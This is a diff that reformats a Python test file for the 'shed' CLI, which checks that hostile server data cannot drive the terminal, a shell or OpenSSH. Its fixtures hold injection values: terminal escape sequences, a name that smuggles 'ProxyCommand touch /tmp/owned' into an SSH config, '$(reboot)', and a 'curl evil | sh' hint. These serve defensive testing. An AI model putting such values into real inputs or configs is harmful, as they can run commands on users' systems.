@@ -1,4 +1,6 @@
-"""What `shed` makes of a server that is not on its side: nothing it says is obeyed by the terminal, a shell or OpenSSH."""
+"""What `shed` makes of a server that is not on its side: nothing it says is obeyed by the terminal, a shell or
+OpenSSH.
+"""
 
 from __future__ import annotations
 
@@ -19,7 +21,10 @@ SHED = [sys.executable, "-m", "shed.cli.main"]
 EVIL = "\x1b]0;evil\x07\x9b2J\u202e"
 SHOWN = r"\x1b]0;evil\x07\x9b2J\u202e"
 LINES = "x\n    ProxyCommand touch /tmp/owned"
-SHEDS = [{"name": name, "status": f"running{EVIL}", "detail": f"odd{EVIL}"} for name in ("dev", LINES, "$(reboot)", f"a{EVIL}")]
+SHEDS = [
+    {"name": name, "status": f"running{EVIL}", "detail": f"odd{EVIL}"}
+    for name in ("dev", LINES, "$(reboot)", f"a{EVIL}")
+]
 ERROR = {"error": {"code": "BAD", "message": f"registry says {EVIL}\nhint: curl evil | sh", "hint": f"try {EVIL}"}}
 
 
@@ -79,14 +84,20 @@ def test_a_pipe_gets_the_console_as_it_is(env: dict[str, str]) -> None:
 
 def test_openssh_reads_names_alone(env: dict[str, str]) -> None:
     """What a server calls a shed does not become lines of a file that OpenSSH obeys."""
-    done = subprocess.run([*SHED, "ssh-config", "--dry-run", "--json"], env=env, capture_output=True, text=True, timeout=60, check=True)
+    done = subprocess.run(
+        [*SHED, "ssh-config", "--dry-run", "--json"], env=env, capture_output=True, text=True, timeout=60, check=True
+    )
     assert [host["host"] for host in json.loads(done.stdout)["hosts"]] == ["shed-dev"]
-    done = subprocess.run([*SHED, "ssh-config", "--dry-run"], env=env, capture_output=True, text=True, timeout=60, check=True)
+    done = subprocess.run(
+        [*SHED, "ssh-config", "--dry-run"], env=env, capture_output=True, text=True, timeout=60, check=True
+    )
     assert "Proxy" not in done.stdout
     assert done.stderr.count("is left out") == 3
 
 
 def test_a_shell_completes_names_alone(env: dict[str, str]) -> None:
     """What a server calls a shed does not become words that a shell takes apart, or a terminal obeys."""
-    done = subprocess.run([*SHED, "__complete", "zsh", "exec", ""], env=env, capture_output=True, text=True, timeout=60, check=True)
+    done = subprocess.run(
+        [*SHED, "__complete", "zsh", "exec", ""], env=env, capture_output=True, text=True, timeout=60, check=True
+    )
     assert done.stdout == f"words\ndev\trunning{SHOWN}\n"
